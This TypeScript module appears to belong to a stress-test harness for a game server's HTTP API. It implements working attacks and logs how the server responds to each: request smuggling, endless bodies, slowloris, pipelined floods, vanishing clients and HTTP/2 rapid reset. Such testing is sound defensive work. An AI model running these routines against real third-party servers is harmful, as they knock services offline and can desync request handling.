import { connect as connectHttp2, constants } from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import { judge } from './judge.ts';
import { malformed, smuggling } from './malformed.ts';
import { dial, exchange } from './raw-exchange.ts';
import { post, request } from './requests.ts';
import { emptyOutcome, type Outcome, type Target } from './target.ts';

/** How much of everything. */
export interface Amounts {
  /** How often each malformed request is sent. */
  readonly repeats: number;
  readonly slowSockets: number;
  readonly vanishing: number;
  readonly resetStreams: number;
}

/** An attack: what it does, and what became of it. It ends when all its connections have. */
export type Attack = (target: Target, amounts: Amounts) => Promise<Outcome>;

const atOnce = 16;
/** Longer than every timeout that the server is given here. */
const patienceMs = 12_000;
const endlessBytesMax = 32 * 1_048_576;

/** The attacks over HTTP/1.1, by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  ...Object.fromEntries(
    Object.entries(malformed).map(([name, make]) => [
      name,
      async (target: Target, { repeats }: Amounts) =>
        await sendAll(target, Array.from({ length: repeats }, () => make(target)).flat()),
    ]),
  ),
  'request smuggling': async (target, { repeats }) => {
    const outcome = await sendAll(target, Array.from({ length: repeats }, () => smuggling(target)).flat());
    const served = outcome.answers.get('200') ?? 0;
    if (served > 0) outcome.findings.push(`${served} hidden requests were answered`);
    return outcome;
  },
  'truncated bodies': async (target) => {
    const whole = post(target, '/api/v1/sessions', `{"gameId":"${'a'.repeat(500)}"}`);
    const part = whole.subarray(0, whole.length - 200);
    return await many(8, target, async (outcome, index) => {
      const { answers, ended } = await exchange(
        target,
        (socket) => (index % 2 === 0 ? socket.write(part) : socket.end(part)),
        { deadlineMs: patienceMs },
      );
      tell(outcome, answers, ended);
    });
  },
  'endless bodies': async (target) =>
    await many(4, target, async (outcome, index) => {
      const isChunked = index % 2 === 0;
      const framing = isChunked ? 'transfer-encoding: chunked' : 'content-length: 1000000000000';
      const head = request(target, `POST ${index < 2 ? '/api/v1/sessions' : '/trpc/session.create'}`, {
        headers: ['content-type: application/json', framing],
      });
      const { answers, ended } = await exchange(
        target,
        (socket) => {
          socket.write(head);
          const piece = isChunked ? `10000\r\n${' '.repeat(65_536)}\r\n` : ' '.repeat(65_536);
          const pour = (): void => {
            let goesOn = true;
            while (goesOn && !socket.destroyed && socket.bytesWritten < endlessBytesMax) goesOn = socket.write(piece);
          };
          socket.on('drain', pour);
          pour();
        },
        { deadlineMs: patienceMs },
      );
      tell(outcome, answers, ended);
    }),
  'pipelined requests': async (target) =>
    await many(8, target, async (outcome) => {
      const requests = Array.from({ length: 100 }, (_, index) =>
        request(target, `GET /api/v1/games${index % 10 === 9 ? '/no-such-game' : ''}`, {
          headers: [`x-request-id: n${index}`],
          close: index === 99,
        }),
      );
      const { answers, ended } = await exchange(target, (socket) => socket.write(Buffer.concat(requests)), {
        deadlineMs: patienceMs,
      });
      tell(outcome, answers, ended);
      const order = answers.map(({ head }) => /^x-request-id: n(\d+)$/im.exec(head)?.[1]);
      if (order.some((id, index) => id !== String(index)))
        outcome.findings.push(`answers out of order: ${order.join(' ')}`);
      if (answers.length !== requests.length) outcome.findings.push(`${answers.length} answers to 100 requests`);
    }),
  'garbage behind a request': async (target) =>
    await many(16, target, async (outcome) => {
      const { answers, ended } = await exchange(
        target,
        (socket) =>
          socket.write(
            Buffer.concat([
              request(target, 'GET /api/v1/games', { close: false }),
              Buffer.from('\u0000\u0001 garbage\r\n\r\n'),
            ]),
          ),
        { deadlineMs: patienceMs },
      );
      tell(outcome, answers, ended);
      if (answers.some(({ status }, index) => index === 0 && status === 400))
        outcome.findings.push('a refusal in the place of an answer');
    }),
  'clients that vanish': async (target, { vanishing }) =>
    await many(vanishing, target, async (outcome, index) => {
      const socket = dial(target);
      socket.write(
        index % 3 === 0 ? post(target, '/trpc/action.act', '{"type":"Spin"}') : request(target, 'GET /openapi.yaml'),
      );
      if (index % 3 === 1) await new Promise((resolve) => socket.once('data', resolve).once('close', resolve));
      else await delay(index % 5);
      socket.resetAndDestroy();
      outcome.closed += 1;
    }),
  slowloris: async (target, { slowSockets }) => await slowloris(target, slowSockets),
};

/** The attacks that need HTTP/2, by name. */
export const http2Attacks: Readonly<Record<string, Attack>> = {
  'HTTP/2 rapid reset': async (target, { resetStreams }) =>
    await many(4, target, async (outcome) => {
      const client = connectHttp2(`https://${target.host}:${target.port}`, { rejectUnauthorized: false });
      const { promise: closed, resolve } = Promise.withResolvers<void>();
      let reason = 'closed';
      client.on(
        'goaway',
        (code) => (reason = code === constants.NGHTTP2_ENHANCE_YOUR_CALM ? 'GOAWAY: calm' : `GOAWAY: ${code}`),
      );
      client.on('error', () => undefined).on('close', resolve);
      for (let count = 0; count < resetStreams && !client.destroyed && !client.closed; count += 1) {
        const stream = client.request({ ':path': '/api/v1/games', authorization: `Bearer ${target.token}` });
        stream.on('error', () => undefined);
        stream.close(constants.NGHTTP2_CANCEL);
        if (count % 50 === 49) await delay(1);
      }
      const cut = await Promise.race([closed.then(() => true), delay(patienceMs, false, { ref: false })]);
      client.destroy();
      if (!cut) outcome.findings.push(`${resetStreams} streams were opened and reset, and the connection still stands`);
      outcome.closed += 1;
      outcome.answers.set(reason, (outcome.answers.get(reason) ?? 0) + 1);
    }),
  'no HTTP on a TLS port': async (target, { repeats }) =>
    await many(repeats, target, async (outcome) => {
      const plain = { ...target, isTls: false };
      const { answers, ended } = await exchange(plain, (socket) => socket.write(request(plain, 'GET /api/v1/games')), {
        deadlineMs: patienceMs,
      });
      tell(outcome, answers, ended);
    }),
};

/** Sends each over a connection of its own, some at once. */
async function sendAll(target: Target, requests: readonly Buffer[]): Promise<Outcome> {
  return await many(requests.length, target, async (outcome, index) => {
    const bytes = requests[index];
    if (bytes === undefined) return;
    const { answers, ended } = await exchange(target, (socket) => socket.write(bytes), { deadlineMs: patienceMs });
    tell(outcome, answers, ended);
  });
}

function tell(outcome: Outcome, answers: Awaited<ReturnType<typeof exchange>>['answers'], ended: boolean): void {
  for (const answer of answers) judge(outcome, answer);
  if (ended && answers.length === 0) outcome.closed += 1;
  if (!ended) outcome.findings.push('neither answered to the end nor closed');
}

async function many(
  count: number,
  _target: Target,
  one: (outcome: Outcome, index: number) => Promise<void>,
): Promise<Outcome> {
  const outcome = emptyOutcome();
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < count) {
      const index = next;
      next += 1;
      await one(outcome, index);
    }
  };
  await Promise.all(Array.from({ length: Math.min(atOnce, count) }, worker));
  return outcome;
}

/** Sockets that send a header line now and then, and never come to an end. */
async function slowloris(target: Target, count: number): Promise<Outcome> {
  const outcome = emptyOutcome();
  await Promise.all(
    Array.from({ length: count }, async () => {
      const { answers, ended } = await exchange(
        target,
        (socket) => {
          socket.write(`GET /api/v1/games HTTP/1.1\r\nhost: ${target.host}\r\n`);
          const drip = setInterval(() => socket.writable && socket.write('x: y\r\n'), 500);
          socket.on('close', () => clearInterval(drip));
        },
        { deadlineMs: patienceMs },
      );
      tell(outcome, answers, ended);
    }),
  );
  return outcome;
}
